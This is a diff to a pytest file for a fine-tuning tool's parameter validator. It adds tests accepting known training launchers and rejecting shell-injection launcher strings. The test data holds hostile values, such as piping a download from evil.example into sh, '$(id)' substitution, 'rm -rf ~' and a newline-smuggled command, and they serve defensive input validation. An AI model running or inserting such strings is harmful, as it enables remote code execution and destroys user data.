@@ -38,12 +38,12 @@ def test_the_template_params_are_valid():
         (
             "lora.target_modules",
             [],
-            "lora.target_modules: must be a non-empty list of layer names, or 'auto'",
+            "lora.target_modules: must be a non-empty list of layer names, 'auto' or 'all-linear'",
         ),
         (
             "lora.target_modules",
             "c_attn",
-            "lora.target_modules: must be a non-empty list of layer names, or 'auto'",
+            "lora.target_modules: must be a non-empty list of layer names, 'auto' or 'all-linear'",
         ),
         (
             "lora.target_modules",
@@ -117,3 +117,36 @@ def test_debug_shows_the_traceback(trained_repo):
         env={"TUNELEDGER_DEBUG": "1"},
     )
     assert failed.returncode != 0 and "Traceback" in failed.stderr
+
+
+@pytest.mark.parametrize(
+    "launcher",
+    [
+        "python",
+        "torchrun --nproc_per_node 2",
+        "torchrun --nnodes=2 --rdzv_endpoint=10.0.0.1:29400",
+        "accelerate launch --config_file configs/accelerate/fsdp_cpu.yaml",
+    ],
+)
+def test_known_launchers_are_accepted(launcher):
+    assert validate_params(with_value("train.launcher", launcher)).train.launcher == launcher
+
+
+@pytest.mark.parametrize(
+    ("launcher", "rule"),
+    [
+        ("python; curl evil.example | sh", "options may hold only letters, digits"),
+        ("torchrun --nproc_per_node 2 $(id)", "options may hold only letters, digits"),
+        ("torchrun --nproc_per_node 2 && rm -rf ~", "options may hold only letters, digits"),
+        ("accelerate launch --config_file `x`", "options may hold only letters, digits"),
+        ("bash -c python", "must start with python, torchrun or accelerate launch"),
+        ("accelerate config", "must start with python, torchrun or accelerate launch"),
+        ("python -c 1", "python takes no options here"),
+        ("torchrun --nproc_per_node 2\n  echo", "options may hold only letters, digits"),
+        ("torchrun --config 'a b'", "options may hold only letters, digits"),
+    ],
+)
+def test_a_launcher_is_never_free_shell_text(launcher, rule):
+    with pytest.raises(TuneLedgerError) as refused:
+        validate_params(with_value("train.launcher", launcher))
+    assert f"params.yaml: train.launcher: {rule}" in str(refused.value)
